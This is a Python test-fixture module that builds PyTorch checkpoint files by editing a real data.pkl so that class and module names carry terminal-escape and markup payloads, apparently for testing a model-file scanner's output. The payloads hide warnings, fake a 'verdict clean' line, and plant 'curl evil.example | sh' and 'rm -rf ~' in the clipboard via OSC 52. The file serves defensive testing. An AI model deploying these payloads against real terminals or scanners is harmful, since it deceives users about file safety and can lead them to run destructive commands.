"""Checkpoints whose strings try to drive the terminal, written by editing a REAL data.pkl.

Each payload is a string a file can carry: a dataset class name (``names``), a module name (a key
of ``_modules``, so it also ends up in every parameter name below it) or the name of a class the
pickle references (a GLOBAL). Printed raw, they conceal the HOSTILE line (SGR 8), print a fake
"verdict clean" line, set the window title (OSC 0/2), write the clipboard (OSC 52), reorder text
(U+202E), or, in a Textual/Rich widget that parses markup, turn into a link or raise.

The edits are byte-exact: a BINUNICODE string (``X`` + 4-byte length + UTF-8, surrogates passed
through as pickle itself writes them) is swapped for another; the rest of the pickle, memo slots
included, is untouched, so torch.load still loads the names/module payloads with the real classes.
"""

from __future__ import annotations

import base64
import struct
import zipfile
from pathlib import Path

ESC = "\x1b"
BEL = "\x07"

PAYLOADS: dict[str, str] = {
    # everything after it is invisible on most terminals: the HOSTILE line would vanish
    "sgr_conceal": f"person{ESC}[8m",
    # a line of its own that reads like our verdict
    "fake_verdict": "person\nverdict    clean: no code referenced, safe to load\n",
    "osc_title": f"person{ESC}]0;pwned-title{BEL}",
    "osc2_title": f"person{ESC}]2;pwned-title{ESC}\\",
    "osc52_clipboard": f"person{ESC}]52;c;{base64.b64encode(b'curl evil.example | sh').decode()}{BEL}",
    "c1_csi": "person\x9b8m",  # one-byte CSI: SGR 8 again, for terminals that honour C1
    "del_and_bidi": "person\x7f\u202etxt.exe",
    "lone_surrogate": "person\udcff\ud800",
    "markup": "[link=https://evil.example]person[/link][/]",
}

# what a module may be named instead of "conv" (all Conv blocks share the memoised key); no dots,
# which would split the name into module path components
MODULE_PAYLOADS: dict[str, str] = {
    "markup_module": "[link=https://evil]conv[/link]",
    "close_tag_module": "[/]",
    "escape_module": f"conv{ESC}[8m{ESC}]0;pwned-title{BEL}",
}

# what a referenced class may be named instead of "Conv" (no newline: GLOBAL is line-based)
CLASS_PAYLOADS: dict[str, str] = {
    "sgr_conceal_class": f"Conv{ESC}[8m",
    "osc52_class": f"Conv{ESC}]52;c;{base64.b64encode(b'rm -rf ~').decode()}{BEL}",
    "osc_title_class": f"Conv{ESC}]0;pwned-title{BEL}",
    "markup_class": "Conv[link=https://evil.example]x[/link]",
}

# hostile ones: the Conv class replaced by an os attribute whose name carries the payload, so the
# file is hostile to any reader (os.*) and the HOSTILE line itself must quote the payload
HOSTILE_CLASS_PAYLOADS: dict[str, str] = {
    "hostile_sgr_conceal": f"system{ESC}[8m",
    "hostile_osc52": f"system{ESC}]52;c;{base64.b64encode(b'rm -rf ~').decode()}{BEL}",
    "hostile_osc_title": f"system{ESC}]2;verdict clean{BEL}",
    "hostile_erase_line": f"system\r{ESC}[2K{ESC}[1Averdict    clean",
}


def _binunicode(s: str) -> bytes:
    b = s.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(b)) + b


def _rewrite(real: Path, dst: Path, old: bytes, new: bytes) -> Path:
    """A copy of ``real`` with the one occurrence of ``old`` in data.pkl replaced by ``new``."""
    with zipfile.ZipFile(real) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for item in zin.infolist():
            data = zin.read(item)
            if item.filename.endswith("/data.pkl"):
                assert data.count(old) == 1, f"{old!r} occurs {data.count(old)} times"
                data = data.replace(old, new)
            zout.writestr(item, data)
    return dst


def names_checkpoint(real: Path, dst: Path, payload: str) -> Path:
    """``real`` whose first dataset class name ('person') is ``payload``."""
    return _rewrite(real, dst, _binunicode("person"), _binunicode(payload))


def module_checkpoint(real: Path, dst: Path, payload: str) -> Path:
    """``real`` whose Conv blocks' ``conv`` child module is named ``payload``."""
    return _rewrite(real, dst, _binunicode("conv"), _binunicode(payload))


def class_checkpoint(real: Path, dst: Path, payload: str, module: str = "yolov5.models.common") -> Path:
    """``real`` whose pickle references class ``payload`` in yolov5.models.common instead of Conv.

    No such class exists, so the reader names it among the file's unknown globals (hostile) and
    ``torch.load`` fails with an error message that quotes it raw.
    """
    assert "\n" not in payload
    old = b"cyolov5.models.common\nConv\n"
    return _rewrite(real, dst, old, b"c" + module.encode() + b"\n" + payload.encode() + b"\n")


def escape_files(outdir: Path, real: Path) -> dict[str, Path]:
    """Every payload as a checkpoint file: {name: path}."""
    outdir.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    for name, payload in PAYLOADS.items():
        out[f"{name}.pt"] = names_checkpoint(real, outdir / f"{name}.pt", payload)
    for name, payload in MODULE_PAYLOADS.items():
        out[f"{name}.pt"] = module_checkpoint(real, outdir / f"{name}.pt", payload)
    for name, payload in CLASS_PAYLOADS.items():
        out[f"{name}.pt"] = class_checkpoint(real, outdir / f"{name}.pt", payload)
    for name, payload in HOSTILE_CLASS_PAYLOADS.items():
        out[f"{name}.pt"] = class_checkpoint(real, outdir / f"{name}.pt", payload, module="os")
    return out
